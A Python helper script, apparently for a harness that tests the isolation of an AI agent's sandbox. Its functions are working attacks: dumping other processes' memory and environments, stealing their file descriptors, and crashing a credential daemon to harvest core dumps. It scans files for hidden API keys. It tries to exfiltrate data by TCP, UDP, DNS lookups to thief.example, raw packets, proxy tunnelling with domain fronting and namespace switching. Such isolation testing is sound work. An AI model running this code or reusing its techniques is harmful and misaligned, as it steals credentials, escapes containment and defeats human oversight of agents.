"""The tricks of agent.sh that a shell cannot do alone. Each prints on standard output whatever it got hold of, and on
standard error, in its last line, what happened. The exit status is 0, but for `search`: 3 when a key was found."""
import base64
import binascii
import ctypes
import glob
import os
import re
import signal
import socket
import ssl
import subprocess
import sys

PATIENCE = 2.0
KEY = re.compile(rb"key_[0-9a-f]{40}")
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def say(text):
    print(text, file=sys.stderr)


def got(data):
    sys.stdout.buffer.write(data)
    sys.stdout.buffer.flush()


def others():
    """Every process that is none of this agent's own."""
    own, pid = set(), os.getpid()
    while pid > 1:
        own.add(pid)
        try:
            with open(f"/proc/{pid}/stat", "rb") as file:
                pid = int(file.read().rpartition(b")")[2].split()[1])
        except OSError:
            break
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in own]


def reason(error):
    return os.strerror(error) if error else "nothing"


# The key.

def search(name):
    """Looks for a key in a file, as it is and in other spellings; the placeholder is none."""
    with open(name, "rb") as file:
        data = file.read()
    placeholder = os.environ.get("API_TOKEN", "").encode()
    texts = [data]
    for run in re.findall(rb"[0-9a-fA-F]{60,}", data):
        texts.append(binascii.unhexlify(run[:len(run) // 2 * 2]))
    for run in re.findall(rb"[A-Za-z0-9+/=_-]{40,}", data):
        for at in range(4):
            part = run[at:]
            texts.append(base64.b64decode(part[:len(part) // 4 * 4].replace(b"-", b"+").replace(b"_", b"/") + b"===="))
    keys = {key for text in texts for key in KEY.findall(text)} - {placeholder}
    keys |= {b"a private key"} if b"PRIVATE KEY-----" in data else set()
    print(f"{len(data)} bytes seen" + (", A KEY AMONG THEM" if keys else ", no key"))
    sys.exit(3 if keys else 0)


def memory():
    errors, n = set(), 0
    for pid in others():
        try:
            with open(f"/proc/{pid}/maps", "rb") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
                for line in maps:
                    start, end = (int(part, 16) for part in line.split()[0].split(b"-"))
                    if b"rw" in line.split()[1] and end - start < 1 << 26:
                        mem.seek(start)
                        got(mem.read(end - start))
            n += 1
        except OSError as why:
            errors.add(reason(why.errno))
    say(f"{len(others())} others are seen, {n} could be read {' '.join(sorted(errors))}".rstrip())


def trace():
    """As a debugger does, of whoever is seen and of whoever might be there."""
    attach, detach = 16, 17
    errors, n = set(), 0
    for pid in sorted({*others(), *range(2, 65536)} - {os.getpid(), os.getppid()}):
        if libc.ptrace(attach, pid, None, None) == 0:
            n += 1
            os.waitpid(pid, 0x40000000)  # __WALL
            try:
                with open(f"/proc/{pid}/environ", "rb") as file:
                    got(file.read())
            except OSError:
                pass
            libc.ptrace(detach, pid, None, None)
        else:
            errors.add(reason(ctypes.get_errno()))
    say(f"{n} attached: {', '.join(sorted(errors))}")


def descriptors():
    """pidfd_getfd(2): the descriptors of others."""
    pidfd_open, pidfd_getfd = 434, 438
    errors, n = set(), 0
    for pid in others() + [os.getppid()]:
        holder = libc.syscall(pidfd_open, pid, 0)
        if holder < 0:
            errors.add(reason(ctypes.get_errno()))
            continue
        for number in range(64):
            taken = libc.syscall(pidfd_getfd, holder, number, 0)
            if taken < 0:
                errors.add(reason(ctypes.get_errno()))
                continue
            if pid == os.getppid():  # the agent's own shell: what it has, it has anyway
                os.close(taken)
                continue
            n += 1
            got(os.readlink(f"/proc/self/fd/{taken}").encode())
            try:
                os.set_blocking(taken, False)
                got(os.pread(taken, 1 << 20, 0))
            except OSError:
                pass
    say(f"{n} taken from others: {', '.join(sorted(errors))}")


def core():
    """Makes what belongs to credfd die, where it can be seen, and looks for what it leaves."""
    import resource
    most = resource.getrlimit(resource.RLIMIT_CORE)[1]
    resource.setrlimit(resource.RLIMIT_CORE, (most, most))
    n = 0
    for pid in others():
        try:
            with open(f"/proc/{pid}/comm", encoding="ascii") as file:
                if file.read().startswith("credfd-"):
                    os.kill(pid, signal.SIGABRT)
                    n += 1
        except OSError:
            pass
    found = [name for place in ("core*", "/core*", "/tmp/core*", "/var/crash/*", "/var/lib/systemd/coredump/*",
                                "/cores/*", "/var/core/*") for name in glob.glob(place)]
    for name in found:
        try:
            with open(name, "rb") as file:
                got(file.read(1 << 26))
        except OSError:
            pass
    say(f"{n} of credfd's processes could be killed, {len(found)} cores were found")


def channel():
    """The lease's own descriptor, in every wrong way; and in the right way, for somebody else's host."""
    end = socket.socket(fileno=os.dup(int(os.environ["API_FD"])))
    end.settimeout(PATIENCE)
    for question in (b"\0", b"\x02", b"\x01\x01", b"GET / HTTP/1.1\r\n\r\n", b"\xff" * 4096):
        end.send(question)
        got(end.recv(65536))
    null = os.open("/dev/null", os.O_RDWR)
    socket.send_fds(end, [b"\x01"], [null])
    got(end.recv(65536))
    end.send(b"\x01")
    data, fds, _, _ = socket.recv_fds(end, 65536, 8)
    with socket.socket(fileno=fds[0]) as stream:
        stream.settimeout(PATIENCE)
        stream.sendall(b"GET /repos/acme/widget/issues HTTP/1.1\r\nHost: thief.example\r\nConnection: close\r\n\r\n")
        while part := stream.recv(65536):
            got(part)
    for number in os.listdir("/proc/self/fd"):
        try:
            got(os.readlink(f"/proc/self/fd/{number}").encode() + b"\n")
        except OSError:
            pass
    say("six wrong words: refused; a request for another host went to the API")


# The way home. Each of these exits with 3 when somebody answered.

def home(tries):
    """Each is a name and what may raise; it is a way out when it does not."""
    errors = []
    for name, attempt in tries:
        try:
            attempt()
        except (OSError, subprocess.SubprocessError) as why:
            errors.append(f"{name}: {why.strerror if isinstance(why, OSError) and why.strerror else why}")
        else:
            say(f"{name}: SOMEBODY ANSWERED")
            sys.exit(3)
    say("; ".join(errors))


def stream(family, address):
    def attempt():
        with socket.socket(family, socket.SOCK_STREAM) as one:
            one.settimeout(PATIENCE)
            one.connect(address)
            one.sendall(b"here is what I found\n")
            if not one.recv(4096):
                raise OSError("closed without a word")
    return attempt


def datagram(address, text=b"here is what I found"):
    def attempt():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.settimeout(PATIENCE / 4)
            one.connect(address)
            one.send(text)
            one.recv(4096)
    return attempt


def tcp(port, *addresses):
    home([(address, stream(socket.AF_INET, (address, int(port)))) for address in addresses])


def udp(port, *addresses):
    home([(address, datagram((address, int(port)))) for address in addresses])


def dns(port, *addresses):
    """A name that only a name server of the thief's could answer, and a question to one directly."""
    question = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"\x04key1\x05thief\x07example\0" + b"\0\1\0\1"
    servers = re.findall(r"^nameserver\s+([\d.]+)", open("/etc/resolv.conf").read(), re.M) \
        if os.path.exists("/etc/resolv.conf") else []
    home([("resolver", lambda: socket.getaddrinfo("key1.thief.example", 443)),
          *((address, datagram((address, int(port)), question)) for address in addresses),
          *((address, datagram((address, 53), question)) for address in servers)])


def raw(address):
    """Packets of one's own making."""
    def ping():
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as one:
            one.settimeout(PATIENCE / 4)
            one.sendto(b"\x08\0\xf7\xff\0\0\0\0", (address, 0))
            one.recv(4096)

    def frame():
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as one:
            names = [name for _, name in socket.if_nameindex() if name != "lo"]
            if not names:
                raise OSError("no interface but lo")
            one.bind((names[0], 0))
            one.send(b"\xff" * 12 + b"\x08\0" + b"here is what I found")
    home([("icmp", ping), ("packet", frame)])


def unix(abstract, *names):
    home([(f"@{abstract}", stream(socket.AF_UNIX, "\0" + abstract)),
          *((name, stream(socket.AF_UNIX, name)) for name in names)])


def through_proxy(host, port):
    """A tunnel, or OSError with what the proxy says."""
    proxy = re.match(r"http://([^:/]+):(\d+)", os.environ["HTTPS_PROXY"])
    one = socket.create_connection((proxy[1], int(proxy[2])), PATIENCE)
    one.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head and (part := one.recv(4096)):
        head += part
    if not head.startswith(b"HTTP/1.1 200 "):
        raise OSError(head.split(b"\r\n")[0].decode())
    return one


def fronting(port, host, other):
    """To a host that is allowed, under another one's name; and no TLS at all."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    def by_name():
        with context.wrap_socket(through_proxy(host, port), server_hostname=other) as one:
            one.sendall(b"here is what I found")

    def plain():
        with through_proxy(host, port) as one:
            one.sendall(b"here is what I found\r\n" * 10)
            answer = one.recv(4096)
            if not answer or answer.startswith(b"HTTP/1.1 4"):  # what speaks TLS answers otherwise: it is the proxy
                raise OSError(f"cut {answer.splitlines()[-1].decode() if answer else ''}")
    home([(other, by_name), ("no TLS", plain)])


def namespaces(port, *addresses):
    """Out of the network that one was put into."""
    clone_newnet = 0x40000000
    errors, tries = set(), 0
    for pid in others() + [1]:
        tries += 1
        try:
            space = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
        except OSError as why:
            errors.add(reason(why.errno))
            continue
        if libc.setns(space, clone_newnet) < 0:
            errors.add(reason(ctypes.get_errno()))
            continue
        for address in addresses:
            try:
                stream(socket.AF_INET, (address, int(port)))()
            except OSError as why:
                errors.add(why.strerror or str(why))
            else:
                say("SOMEBODY ANSWERED")
                sys.exit(3)
    say(f"{tries} tried: {', '.join(sorted(errors))}")


TRICKS = {what.__name__: what for what in (
    search, memory, trace, descriptors, core, channel, tcp, udp, dns, raw, unix, fronting, namespaces)}

TRICKS[sys.argv[1]](*sys.argv[2:])
